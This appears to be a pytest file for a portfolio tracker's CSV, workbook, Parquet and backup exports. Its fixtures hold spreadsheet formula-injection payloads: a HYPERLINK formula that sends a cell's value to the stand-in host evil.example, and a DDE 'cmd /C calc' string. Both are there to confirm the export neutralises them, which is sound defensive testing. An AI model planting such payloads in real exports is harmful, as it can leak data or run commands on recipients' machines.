"""Exports and backup: formulas never reach a spreadsheet live, the CSV has a
row per pilot, the workbook a sheet per table with every row, and a backup
is a complete database that carries on where the original stands."""

import csv
import shutil
import subprocess
import sys
import time
from datetime import date, timedelta

import duckdb
import openpyxl
import pandas as pd
import pytest

from portfolio import flags
from portfolio.domain.errors import InvalidInput
from portfolio.domain.settings import Settings
from portfolio.services import demo
from portfolio.services.reporting import export
from portfolio.storage import db, store
from tests.conftest import AS_OF

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def demo_db(fixed_demo_db):
    return fixed_demo_db


@pytest.fixture(scope="module")
def demo_workbook(fixed_demo_template, tmp_path_factory):
    """The demo's workbook as of AS_OF, exported once for the tests that only
    read it, with the database it was exported from."""
    folder = tmp_path_factory.mktemp("demo-workbook")
    source = folder / "demo.duckdb"
    shutil.copyfile(fixed_demo_template, source)
    out = folder / "portfolio.xlsx"
    with db.session(source) as conn:
        export.export_xlsx(conn, AS_OF, Settings(), out)
    return out, source


@pytest.fixture
def hostile(conn):
    """A portfolio whose text is built to be run as formulas by a
    spreadsheet: a pilot name, a business unit, an update summary, a
    privilege description, a tab- and a carriage-return-led value (as an
    imported file can bring), next to two ordinary pilots."""
    owner = demo.make_person(conn, name="Olga Owner")
    pid = demo.make_pilot(conn, name=HOSTILE_NAME, business_unit="+1", product_owner_id=owner)
    demo.make_update(conn, pid, AS_OF - timedelta(days=3), summary="-2", blockers="@SUM(A1)")
    # What an import could carry in, past the form's whitespace trimming.
    conn.execute("UPDATE pilot SET problem = ? WHERE id = ?", ["\t=cmd|' /C calc'!A0", pid])
    conn.execute("UPDATE person SET name = ? WHERE id = ?", ["\r=1+1", owner])
    conn.execute(
        "INSERT INTO privilege (pilot_id, kind, description) VALUES (?, 'data_access', '@SUM(1+1)*cmd')", [pid])
    others = [demo.make_pilot(conn, name=f"Ordinary {i}") for i in range(2)]
    return pid, others


# --- neutralise: the one place ------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", HOSTILE_NAME])
def test_neutralise_prefixes_formula_text(text):
    assert export.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "", "a=b", " =not at the start", 5, -2, 1.5, date(2026, 3, 2), None])
def test_neutralise_leaves_everything_else(value):
    assert export.neutralise(value) == value


def test_safe_frame_touches_text_only():
    frame = pd.DataFrame({"name": ["=x", "ok", None], "n": [-1, 2, 3], "when": pd.to_datetime(["2026-01-01"] * 3)})
    safe = export.safe_frame(frame)
    assert safe["name"].tolist()[:2] == ["'=x", "ok"] and pd.isna(safe["name"].iloc[2])
    assert safe["n"].tolist() == [-1, 2, 3] and pd.api.types.is_integer_dtype(safe["n"])
    assert pd.api.types.is_datetime64_any_dtype(safe["when"])
    assert frame["name"].iloc[0] == "=x"  # the caller's frame is not changed


# --- CSV ------------------------------------------------------------------------


def test_csv_neutralises_every_hostile_cell(conn, settings, hostile, tmp_path):
    pid, _ = hostile
    out = export.export_csv(conn, AS_OF, settings, tmp_path / "pilots.csv")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = {int(r["id"]): r for r in csv.DictReader(fh)}
    row = rows[pid]
    assert row["name"] == "'" + HOSTILE_NAME
    assert row["business_unit"] == "'+1"
    assert row["problem"] == "'\t=cmd|' /C calc'!A0"
    assert row["product_owner"] == "'\r=1+1"
    for r in rows.values():
        for value in r.values():
            assert not value.startswith(FORMULA_STARTS), value


def test_csv_has_one_row_per_pilot_with_owners_clock_and_flags(conn, settings, hostile, tmp_path):
    pid, others = hostile
    gone = demo.make_person(conn, name="Gone Owner", email="gone@example.com")
    left = demo.make_pilot(conn, name="Owner left", product_owner_id=gone)
    store.set_person_active(conn, gone, False)
    out = export.export_csv(conn, AS_OF, settings, tmp_path / "pilots.csv")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    ids = [int(r["id"]) for r in rows]
    assert sorted(ids) == sorted([pid, *others, left]) and len(ids) == len(set(ids))
    by_id = {int(r["id"]): r for r in rows}
    r = by_id[left]
    assert r["product_owner"] == "Gone Owner (inactive)" and r["product_owner_email"] == "gone@example.com"
    assert r["technical_lead_email"].endswith("@example.com") and "external_id" in r
    # make_pilot starts the clock 30 days before AS_OF: day 31, 60 days left.
    assert (r["day"], r["days_left"], r["stage"]) == ("31", "60", "pilot")
    assert "Ownerless" in r["flags"].split(", ") and "product owner Gone Owner is inactive" in r["reasons"]
    assert by_id[others[0]]["flags"] == by_id[others[0]]["flags"].strip()


def test_days_left_is_blank_off_the_clock(conn, settings, tmp_path):
    """A production pilot has no go/no-go ahead of it: no days left (not
    "-70"), in the CSV as on the Portfolio page."""
    shipped = demo.make_pilot(conn, name="Shipped", stage="production")
    running = demo.make_pilot(conn, name="Running")
    out = export.export_csv(conn, AS_OF, settings, tmp_path / "pilots.csv")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = {int(r["id"]): r for r in csv.DictReader(fh)}
    assert rows[shipped]["days_left"] == "" and rows[running]["days_left"] == "60"


def test_each_pilot_has_its_stages_own_next_date_in_the_csv(conn, settings, tmp_path):
    running = demo.make_pilot(conn, name="Running")  # started 30 days before AS_OF: go/no-go 60 days after it
    bridging = demo.make_pilot(conn, name="Bridging", stage="bridge")
    conn.execute("UPDATE pilot SET bridge_due_date = DATE '2026-04-27' WHERE id = ?", [bridging])
    shipped = demo.make_pilot(conn, name="Shipped", stage="production")
    out = export.export_csv(conn, AS_OF, settings, tmp_path / "pilots.csv")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = {int(r["id"]): r for r in csv.DictReader(fh)}
    assert [rows[i]["next_date"] for i in (running, bridging, shipped)] == [
        "go/no-go 1 May 2026", "bridge due 27 Apr 2026", ""]


def test_pilots_with_flags_joins_every_flag(demo_db, settings):
    with db.session(demo_db) as conn:
        frame = export.pilots_with_flags(conn, AS_OF, settings)
        all_flags = flags.portfolio_flags(conn, AS_OF, settings)
        n = conn.execute("SELECT count(*) FROM pilot").fetchone()[0]
    assert len(frame) == n == frame["id"].nunique()
    for pilot_id, group in all_flags.groupby("pilot_id"):
        row = frame[frame["id"] == pilot_id].iloc[0]
        assert set(row["flags"].split(", ")) == {flags.label(code) for code in group["code"]}  # in words
        assert all(reason in row["reasons"] for reason in group["reason"])
    unflagged = frame[~frame["id"].isin(all_flags["pilot_id"])]
    assert (unflagged["flags"] == "").all()


# --- the workbook -----------------------------------------------------------------


def _cells(ws):
    for row in ws.iter_rows():
        yield from row


def test_xlsx_writes_formula_text_as_typed_text_without_an_apostrophe(conn, settings, hostile, tmp_path):
    """In a workbook a text cell never runs, so the text goes in as it is:
    no apostrophe for Excel or LibreOffice to show, a text cell (never a
    formula), marked as Excel marks a typed '=... so editing keeps it text."""
    pid, _ = hostile
    out = export.export_xlsx(conn, AS_OF, settings, tmp_path / "portfolio.xlsx")
    wb = openpyxl.load_workbook(out)

    def cells(sheet, header):
        ws = wb[sheet]
        names = [c.value for c in ws[1]]
        return [row[names.index(header)] for row in ws.iter_rows(min_row=2)]

    def cell_with(sheet, header, value):
        found = [c for c in cells(sheet, header) if c.value == value]
        assert found, (sheet, header, value, [c.value for c in cells(sheet, header)])
        return found[0]

    for sheet, header, value in [
        ("Pilots", "Name", HOSTILE_NAME), ("Pilots", "Business unit", "+1"),
        ("Pilots", "Problem", "\t=cmd|' /C calc'!A0"), ("Weekly updates", "Summary", "-2"),
        ("Weekly updates", "Blockers", "@SUM(A1)"), ("Privileges", "Description", "@SUM(1+1)*cmd"),
        ("Flags", "Pilot", HOSTILE_NAME), ("Weekly updates", "Pilot", HOSTILE_NAME),
    ]:
        cell = cell_with(sheet, header, value)
        assert cell.data_type == "s" and cell.quotePrefix, (sheet, header, cell.data_type)
    # XML turns a stored carriage return into a newline when read back.
    assert {"\r=1+1", "\n=1+1"} & {c.value for c in cells("People", "Name")}
    for ws in wb:
        for cell in _cells(ws):
            assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                assert not cell.value.startswith("'"), (ws.title, cell.coordinate, cell.value)
    # What Excel reads: no sheet of the file holds a formula element at all.
    import zipfile
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_the_workbook_is_readable_as_opened(demo_workbook):
    """Headers in words, widths that fit, the header row frozen with filters,
    dates as date cells in a date format, people by name and email."""
    out, source = demo_workbook
    with db.session(source) as conn:
        decided_by = conn.execute(
            "SELECT p.name, p.email FROM decision d JOIN person p ON p.id = d.decided_by ORDER BY d.id LIMIT 1"
        ).fetchone()
        owner = conn.execute(
            "SELECT p.name, p.email FROM pilot JOIN person p ON p.id = pilot.product_owner_id "
            "WHERE NOT archived ORDER BY pilot.name, pilot.id LIMIT 1").fetchone()
    wb = openpyxl.load_workbook(out)
    for ws in wb:
        header = [c.value for c in ws[1]]
        assert ws.freeze_panes == "A2", ws.title
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), ws.title
        assert all(h and "_" not in h and h[0].isupper() for h in header), (ws.title, header)
        assert len(set(h.lower() for h in header)) == len(header), (ws.title, header)
    pilots = wb["Pilots"]
    header = [c.value for c in pilots[1]]
    assert header[:8] == ["Tracker id", "External id", "Name", "Business unit", "Problem", "Stage", "Start date",
                          "Go/no-go date"]
    assert {"Product owner", "Days left", "Flags", "Reasons"} <= set(header)
    first = {h: c for h, c in zip(header, pilots[2])}
    assert first["Start date"].is_date and first["Start date"].number_format == "YYYY-MM-DD"
    assert first["Product owner"].value == f"{owner[0]} <{owner[1]}>"
    # A column is as wide as its widest value (within bounds), not Excel's default.
    name_col = pilots.column_dimensions[openpyxl.utils.get_column_letter(header.index("Name") + 1)]
    longest = max(len(c.value) for c in next(pilots.iter_cols(min_col=header.index("Name") + 1,
                                                                  max_col=header.index("Name") + 1, min_row=1)))
    assert name_col.width >= min(longest, export.MAX_WIDTH - 2)
    decisions = wb["Decisions"]
    header = [c.value for c in decisions[1]]
    assert "Decided by" in header and "decided_by" not in header
    assert decisions.cell(row=2, column=header.index("Decided by") + 1).value == f"{decided_by[0]} <{decided_by[1]}>"


def test_the_csv_starts_with_a_byte_order_mark_for_excel(conn, settings, tmp_path):
    demo.make_pilot(conn, name="Café · Zürich")
    out = export.export_csv(conn, AS_OF, settings, tmp_path / "pilots.csv")
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,")
    assert "Café · Zürich" in data.decode("utf-8-sig")
    assert export.csv_bytes(pd.DataFrame({"name": ["Zoë"]})).startswith(b"\xef\xbb\xbfname")


def test_workbook_has_a_sheet_per_table_with_every_row(demo_workbook, settings):
    out, source = demo_workbook
    with db.session(source) as conn:
        counts = {t: conn.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0]
                  for (t,) in conn.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
        n_flags = len(flags.portfolio_flags(conn, AS_OF, settings))
    wb = openpyxl.load_workbook(out, read_only=True)
    names = wb.sheetnames
    expected = ["Pilots", "People", "Weekly updates", "Criteria", "Decisions", "Privileges", "KPIs",
                "KPI readings", "Readiness"]
    assert names[: len(expected)] == expected and names[-1] == "Flags"
    # The rest of the schema has its sheets too; the bookkeeping does not.
    assert {"Stage events", "Criteria changes", "Bridge checks", "Readiness items"} <= set(names)
    assert not {"Schema migrations", "Digest runs", "Digest flags"} & set(names)
    rows = {ws.title: ws.max_row - 1 for ws in wb}
    for table, title in export.SHEET_TITLES.items():
        assert rows[title] == counts[table], title
    assert rows["Stage events"] == counts["stage_event"] and rows["Flags"] == n_flags > 0
    people = [c.value for c in next(wb["People"].iter_rows(max_row=1))]
    assert "Email" in people and "Email key" not in people and "email_key" not in people


def test_workbook_dates_are_dates(demo_workbook):
    out, _ = demo_workbook
    ws = openpyxl.load_workbook(out)["Decisions"]
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("Decided on") + 1)
    assert cell.is_date and cell.number_format == "YYYY-MM-DD"


def test_export_refuses_a_missing_folder_and_leaves_no_partial_file(conn, settings, tmp_path):
    with pytest.raises(InvalidInput, match="does not exist"):
        export.export_csv(conn, AS_OF, settings, tmp_path / "nowhere" / "p.csv")
    export.export_xlsx(conn, AS_OF, settings, tmp_path / "p.xlsx")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


# --- backup -------------------------------------------------------------------------


def _table_rows(path) -> dict[str, list]:
    conn = duckdb.connect(str(path), read_only=True)
    try:
        tables = [t for (t,) in conn.execute("SELECT table_name FROM duckdb_tables() ORDER BY 1").fetchall()]
        return {t: conn.execute(f'SELECT * FROM "{t}" ORDER BY ALL').fetchall() for t in tables}
    finally:
        conn.close()


def test_backup_is_complete_and_carries_on(demo_db, tmp_path):
    copy = export.backup(demo_db, tmp_path / "copy.duckdb")
    original = _table_rows(demo_db)
    assert _table_rows(copy) == original
    assert "schema_migration" in original and original["pilot"]
    with db.session(copy) as conn:
        # Sequences continue where the original stands: a new pilot, person
        # and update get fresh ids, not ones already taken.
        top = conn.execute("SELECT max(id) FROM pilot").fetchone()[0]
        pid = demo.make_pilot(conn, name="After the backup")
        assert pid == top + 1
        assert demo.make_update(conn, pid, AS_OF) > max(r[0] for r in original["weekly_update"])
        # Constraints and unique indexes came along.
        email = conn.execute("SELECT email FROM person LIMIT 1").fetchone()[0]
        with pytest.raises(duckdb.ConstraintException):
            conn.execute("INSERT INTO person (name, email, email_key, role) VALUES ('Dup', ?, lower(?), 'viewer')",
                         [email, email])
        indexes = {r[0] for r in conn.execute("SELECT index_name FROM duckdb_indexes()").fetchall()}
        assert {"pilot_external_id", "weekly_update_pilot", "decision_pilot"} <= indexes
    # The original is untouched by what happened in the copy.
    assert _table_rows(demo_db) == original


def test_backup_never_overwrites(demo_db, tmp_path):
    target = tmp_path / "copy.duckdb"
    target.write_bytes(b"precious")
    with pytest.raises(InvalidInput, match="already exists"):
        export.backup(demo_db, target)
    assert target.read_bytes() == b"precious"
    with pytest.raises(InvalidInput, match="different file"):
        export.backup(demo_db, demo_db)
    with pytest.raises(InvalidInput, match="does not exist"):
        export.backup(tmp_path / "missing.duckdb", tmp_path / "other.duckdb")


@pytest.mark.thorough  # a real process
def test_backup_waits_for_another_program_to_release_the_file(demo_db, tmp_path):
    holder = subprocess.Popen(
        [sys.executable, "-c",
         "import duckdb, sys, time\n"
         f"c = duckdb.connect({str(demo_db)!r})\n"
         "print('holding', flush=True)\n"
         "time.sleep(1.0)\n"
         "c.close()\n"],
        stdout=subprocess.PIPE, text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "holding"
        started = time.monotonic()
        copy = export.backup(demo_db, tmp_path / "copy.duckdb")
        assert time.monotonic() - started > 0.3  # it waited for the release
    finally:
        holder.wait(timeout=30)
    assert _table_rows(copy)["pilot"] == _table_rows(demo_db)["pilot"]


def test_no_export_carries_a_token_or_its_hash(conn, settings, admin, tmp_path):
    from portfolio.domain.tokens import token_hash
    from portfolio.services import tokens

    secrets = [tokens.new_api_token(conn, admin, admin.person_id, {"label": "reporting bot"}),
               tokens.new_calendar_link(conn, admin, admin.person_id)]
    secrets += [token_hash(t) for t in secrets]
    book = export.export_xlsx(conn, AS_OF, settings, tmp_path / "portfolio.xlsx")
    wb = openpyxl.load_workbook(book, read_only=True)
    cells = [str(v) for ws in wb for row in ws.iter_rows(values_only=True) for v in row if v is not None]
    assert "Token hash" not in cells and "Access tokens" not in wb.sheetnames
    parquet = tmp_path / "parquet"
    export.export_parquet(conn, parquet)
    assert "person.parquet" in {p.name for p in parquet.iterdir()}
    written = b"".join(p.read_bytes() for p in parquet.iterdir())
    for secret in secrets:
        assert secret not in cells and secret.encode() not in written
